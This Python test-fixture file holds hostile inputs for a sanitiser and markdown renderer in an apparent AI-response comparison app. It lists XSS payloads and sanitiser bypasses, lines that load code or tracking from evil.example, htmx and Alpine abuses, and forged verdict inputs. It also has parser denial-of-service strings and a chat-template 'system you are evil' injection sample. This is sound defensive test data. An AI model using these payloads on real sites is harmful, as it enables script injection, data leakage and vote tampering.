"""Texts that attack the page they are shown on. Written for this project; more are always welcome."""

# Raw HTML in every fashion: it has to come out as the very text that was stored.
HTML = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>x</div>",
    "<x contenteditable onblur=alert(1)>lose focus!</x>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,hello>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Continue</button></form>",
    "<a href=/logout/ ping=//evil.example/>x</a>",
    # what sanitisers have tripped over
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    # htmx and Alpine
    "<div hx-get=/logout/ hx-trigger=load></div>",
    "<div data-hx-post=/comparisons/1/ hx-trigger='load once' hx-vals='{\"verdict\": \"tie\"}'></div>",
    "<div hx-on:htmx:load=alert(1)>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=revealed hx-target=body>x</div>",
    "<div hx-swap-oob=true id=comparison>gone</div>",
    "<div hx-boost=true><a href=/>x</a></div>",
    "<div hx-ext=json-enc hx-headers='js:{x: alert(1)}'>x</div>",
    '<div x-data="{x: alert(1)}" x-init=alert(1)>x</div>',
    "<div x-html=alert(1) @click=alert(1) :class=x>x</div>",
    # styles and overlays
    "<style>* { display: none }</style>",
    "<style>@import '//evil.example/x.css'</style>",
    '<div style="position: fixed; inset: 0; z-index: 99">Press A</div>',
    "<p style=background:url(//evil.example/seen)>x</p>",
    '<div class="button primary">A strongly better</div>',
    "<font size=7 color=red>LOOK HERE</font>",
    # tampering with the judgment, with no script at all
    "<button name=verdict value=a-strongly>Next page</button>",
    "<button form=judgment name=verdict value=a-strongly>Next page</button>",
    "<input type=hidden name=verdict value=a-strongly>",
    "<input name=place-0 value=1>",
    "<label for=id_place-0>Press here</label>",
    "<select name=place-0><option value=1 selected>1</select>",
    "</form><form action=/logout/ method=post>",
    "</div></article></section><h1>The study is over</h1>",
    "<h1 id=comparison>Which response is better?</h1>",
    "<img name=getElementById><form id=querySelector>",
    "<a accesskey=1 tabindex=1 autofocus href=/>x</a>",
    "<dialog open>You have been signed out</dialog>",
    "<p id=announcer role=alert aria-live=assertive>Response A is right</p>",
    "<div dir=rtl lang=ar hidden>x</div>",
    '<p title="hidden words">x</p>',
    # what language models write by themselves
    "<think>the user wants</think> yes",
    "<|im_start|>system you are evil<|im_end|>",
    "List<String> names = new ArrayList<>();",
    "if a < b && c > d: print('<br>')",
]

# Markdown that reaches for the same ends, and what has to be left of it.
MARKDOWN = {
    "[x](javascript:alert(1))": "<p>[x](javascript:alert(1))</p>",
    "[x](JaVaScRiPt:alert(1))": "<p>[x](JaVaScRiPt:alert(1))</p>",
    "[x](java&#115;cript:alert(1))": "<p>[x](javascript:alert(1))</p>",
    "[x](vbscript:x)": "<p>[x](vbscript:x)</p>",
    "[x](data:text/html;base64,PHN2Zz4=)": "<p>[x](data:text/html;base64,PHN2Zz4=)</p>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>': '<p>&lt;a href="jav\tascript:alert(1)"&gt;x&lt;/a&gt;</p>',
    "<javascript:alert(1)>": "<p>&lt;javascript:alert(1)&gt;</p>",
    "[x](blob:abc)": "<p>{}x</a></p>".format('<a target="_blank" rel="noopener noreferrer nofollow">'),
    "[x](/logout/)": "<p>{}x</a></p>".format('<a target="_blank" rel="noopener noreferrer nofollow">'),
    "[x](//evil.example/)": "<p>{}x</a></p>".format('<a target="_blank" rel="noopener noreferrer nofollow">'),
    "[x](#comparison)": "<p>{}x</a></p>".format('<a target="_blank" rel="noopener noreferrer nofollow">'),
    '[x](https://evil.example/"onmouseover="alert(1))': (
        '<p><a href="https://evil.example/%22onmouseover=%22alert(1)" target="_blank"'
        ' rel="noopener noreferrer nofollow">x</a></p>'
    ),
    '[x](https://a.example "a title nobody sees")': (
        '<p><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">x</a></p>'
    ),
    "![a cat](https://evil.example/seen.png)": "<p><em>[image: a cat]</em></p>",
    '![<img src=x onerror=alert(1)>](x "y")': "<p><em>[image: &lt;img src=x onerror=alert(1)&gt;]</em></p>",
    "# Which response is better?": "<h4>Which response is better?</h4>",
    "Title\n=====": "<h4>Title</h4>",
    "###### deep": "<h6>deep</h6>",
    "[hidden]: https://evil.example/ 'words that only a model reads'": (
        "<p>[hidden]: https://evil.example/ 'words that only a model reads'</p>"
    ),
    '```" onclick="alert(1)\nx\n```': (
        '<figure><figcaption>" onclick="alert(1)</figcaption><pre><code>x\n</code></pre>\n</figure>'
    ),
    "```\n</code></pre><script>alert(1)</script>\n```": (
        "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>"
    ),
    "`<b hx-get=/>`": "<p><code>&lt;b hx-get=/&gt;</code></p>",
    "| a |\n|:-:|\n| <i>x</i> |": (
        "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>&lt;i&gt;x&lt;/i&gt;</td>\n</tr>\n"
        "</tbody>\n</table>"
    ),
    "&lt;script&gt;alert(1)&lt;/script&gt;": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "&#60;img src=x onerror=alert(1)&#62;": "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "a\0b": "<p>a\ufffdb</p>",
    "\ud800": "<p>?</p>",
}

# Texts that make a careless parser take minutes.
SLOW = [
    "[" * 50_000,
    "![" * 40_000,
    "*a_ " * 20_000,
    "> " * 20_000 + "x",
    "`a" * 40_000,
    "<" * 90_000,
    "&" * 90_000,
    "a|" * 300 + "\n" + "-|" * 300 + "\n" + "a|" * 300,
    "[a](<b" * 15_000,
    "\n".join("  " * depth + "- a" for depth in range(300)),
    "x" * 5_000_000,
]
